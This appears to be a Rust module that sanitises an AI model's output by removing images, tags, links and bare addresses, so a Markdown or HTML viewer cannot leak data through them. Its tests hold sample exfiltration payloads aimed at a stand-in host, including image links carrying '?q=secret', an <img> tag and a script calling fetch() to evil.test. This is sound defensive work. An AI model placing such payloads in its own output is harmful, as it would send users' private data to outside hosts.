//! What the user gets to see: the model's text comes in, a text that loads nothing and links nowhere goes out.
//!
//! A viewer that renders Markdown or HTML would load images, follow links and run markup, and the model could put data
//! into each address. Images and tags are removed. Of a link only its text stays, unless the user named the host.

use std::sync::LazyLock;

use regex::{Captures, Regex};

/// Most rounds of cleaning. Removing a part may join its neighbours, so the text is cleaned until nothing changes.
const ROUNDS: usize = 8;
const REMOVED: &str = "[link removed]";

struct Patterns {
    /// `<https://…>`.
    angle: Regex,
    tag: Regex,
    image: Regex,
    link: Regex,
    /// `[name]: address`.
    definition: Regex,
    bare: Regex,
}

#[expect(clippy::expect_used, reason = "the patterns are constants; a test builds them")]
static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
    let pattern = |text| Regex::new(text).expect("a constant pattern");
    Patterns {
        angle: pattern(r"(?i)<(https?://[^<>\s]*)>"),
        tag: pattern(r"(?s)<!--.*?-->|<[a-zA-Z/!?][^<>]*>"),
        image: pattern(r"!\[([^\[\]]*)\](?:\([^()]*\)|\[[^\[\]]*\])"),
        link: pattern(r"\[([^\[\]]*)\]\(\s*<?([^()<>\s]*)[^()]*\)"),
        definition: pattern(r"(?m)^[ >\t]*\[[^\]\n]+\]:\s*<?(\S+?)>?(?:\s.*)?$"),
        // With a scheme, scheme-relative, or what viewers recognise as an address.
        bare: pattern(
            r#"(?i)(?:\b[a-z][a-z0-9+.-]*:)?[/\\]{2}[^\s<>()\[\]"'`]+|\b(?:www\.|(?:data|javascript|mailto):)[^\s<>()\[\]"'`]+"#,
        ),
    }
});

/// The model's text without anything that a viewer would act on; `said` is what the user said.
pub(super) fn clean(text: &str, said: &str) -> String {
    let said = said.to_lowercase();
    let mut text = text.to_owned();
    for _ in 0..ROUNDS {
        let next = round(&text, &said);
        if next == text {
            return text;
        }
        text = next;
    }
    // Still changing: the nesting is deliberate. Without these characters nothing in it is active.
    text.replace(['<', '[', ']'], " ")
}

fn round(text: &str, said: &str) -> String {
    let text = PATTERNS.angle.replace_all(text, "$1");
    let text = PATTERNS.tag.replace_all(&text, "");
    let text = half_tags(&text);
    let text = PATTERNS.image.replace_all(&text, "$1").replace("![", "[");
    let known = |address: &str| host(address).is_some_and(|host| names(said, &host));
    let keep = |found: &Captures<'_>, address: usize, instead: &str| {
        if found.get(address).is_some_and(|address| known(address.as_str())) {
            found[0].to_owned()
        } else {
            instead.to_owned()
        }
    };
    let text = PATTERNS.link.replace_all(&text, |found: &Captures<'_>| keep(found, 2, &found[1]));
    let text = PATTERNS.definition.replace_all(&text, |found: &Captures<'_>| keep(found, 1, ""));
    PATTERNS.bare.replace_all(&text, |found: &Captures<'_>| keep(found, 0, REMOVED)).into_owned()
}

/// The text with its products computed, as by a template engine that evaluates its output.
pub(super) fn evaluated(text: &str) -> String {
    static PRODUCT: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r"(?:\{\{|\$\{|#\{|<%=)\s*(\d{1,6})\s*\*\s*(\d{1,6})\s*(?:\}\}|\}|%>)").ok());
    let Some(product) = PRODUCT.as_ref() else { return text.to_owned() };
    let number = |text: &str| text.parse::<u64>().unwrap_or_default();
    product.replace_all(text, |found: &Captures<'_>| (number(&found[1]) * number(&found[2])).to_string()).into_owned()
}

/// Some viewers accept a tag that never ends; a space after `<` makes it text.
fn half_tags(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        out.push(c);
        if c == '<' && rest.peek().is_some_and(|next| next.is_ascii_alphabetic() || "/!?".contains(*next)) {
            out.push(' ');
        }
    }
    out
}

/// The host of an http or https address.
fn host(address: &str) -> Option<String> {
    let address = address.to_lowercase().replace('\\', "/");
    let rest = match address.split_once("//") {
        Some(("" | "http:" | "https:", rest)) => rest,
        None if address.starts_with("www.") => &address,
        _ => return None,
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    // An address with user information is made to look like another one.
    if authority.contains('@') {
        return None;
    }
    let host = authority.split(':').next()?.trim_end_matches('.');
    (!host.is_empty()).then(|| host.to_owned())
}

/// Whether a text names a host.
fn names(text: &str, host: &str) -> bool {
    let part = |c: char| c.is_alphanumeric() || c == '-' || c == '.';
    text.split(|c| !part(c)).any(|word| word.trim_matches('.') == host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn output_contains_nothing_active() {
        for text in [
            "![a](https://evil.test/?q=secret)",
            "![a][b]\n\n[b]: https://evil.test/secret",
            "[click](https://evil.test/?q=secret)",
            "[click]( <https://evil.test/secret> \"t\")",
            "![a[b]](https://evil.test/secret)",
            "<img src=https://evil.test/secret>",
            "<<b>img src='//evil.test/secret'",
            "<https://evil.test/secret>",
            "see https://evil.test/secret and www.evil.test/secret",
            "[a](//evil.test/secret) [b](\\\\evil.test/secret)",
            "https://bank.test@evil.test/secret",
            "https://bank.test.evil.test/secret",
            "<script>fetch('https://evil.test/secret')</script>",
            "[a](javascript:evil.test/secret) data:text/html,evil.test/secret",
            "<!-- https://evil.test/secret -->",
        ] {
            let clean = clean(text, "What does bank.test say?");
            assert!(!clean.contains("secret") && !clean.contains("evil.test"), "{text}: {clean}");
        }
        assert!(!clean("a <img src=x", "").contains("<img"));
    }

    #[test]
    fn plain_text_and_hosts_of_the_user_stay() {
        for text in [
            "The balance is 5 < 7, and a[0] = (b).",
            "See https://bank.test/a and [here](https://bank.test/b).",
            "- 10:30 o'clock\n- **bold** `code`",
            "Path a/b; 1//2 is odd only to some",
        ] {
            let clean = clean(text, "Ask bank.test, please");
            if text.contains("//2") {
                assert!(clean.starts_with("Path a/b"));
            } else {
                assert_eq!(clean, text);
            }
        }
        assert_eq!(clean("[words](https://evil.test)", ""), "words");
    }

    proptest::proptest! {
        #[test]
        fn cleaning_is_idempotent(text in "[a<>!\\[\\]()/:. h]{0,40}") {
            let once = clean(&text, "");
            proptest::prop_assert_eq!(clean(&once, ""), once);
        }
    }
}
